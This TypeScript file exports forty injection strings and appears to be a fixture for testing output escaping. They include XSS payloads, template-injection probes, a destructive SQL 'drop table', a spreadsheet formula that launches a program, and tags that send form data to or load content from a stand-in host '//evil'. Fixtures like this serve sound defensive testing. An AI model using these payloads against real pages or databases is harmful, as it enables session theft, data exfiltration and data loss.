/** Forty texts that would do something if a page treated them as markup, script, a template or SQL. */
export const injections: readonly string[] = [
  ...['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>"],
  ...['</textarea><script>alert(1)</script>', '</title><script>1</script>', 'javascript:alert(1)'],
  ...['$\u007balert(1)}', '{{constructor.constructor("alert(1)")()}}', '&lt;script&gt;', '<!-- a'],
  ...['<style>*{display:none}</style>', '" autofocus onfocus="alert(1)', '\\" onmouseover=alert(1) x="'],
  ...['<base href=//evil>', '<form action=//evil>', '<iframe srcdoc="<script>alert(1)</script>">'],
  ...['<a href="javascript:alert(1)">x</a>', '<meta http-equiv=refresh content="0;url=//evil">'],
  ...['<link rel=stylesheet href=//evil>', '<object data=//evil>', '<embed src=//evil>'],
  ...['<math><mtext></mtext><script>alert(1)</script></math>', '<input autofocus onfocus=alert(1)>'],
  ...['<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '</style><script>alert(1)</script>'],
  ...['</p></div></main><script>alert(1)</script>', ']]><script>alert(1)</script>', '--><script>alert(1)</script>'],
  ...['%3Cscript%3Ealert(1)%3C/script%3E', '&#60;script&#62;alert(1)&#60;/script&#62;', '\\u003cscript\\u003e'],
  ...["' onclick='alert(1)", '` onclick=`alert(1)', '"/><x y="', '=cmd|calc!A1', '{{7*7}}'],
  ...["'; drop table orders; --", '<%= 1 %>', '{% raw %}'],
];
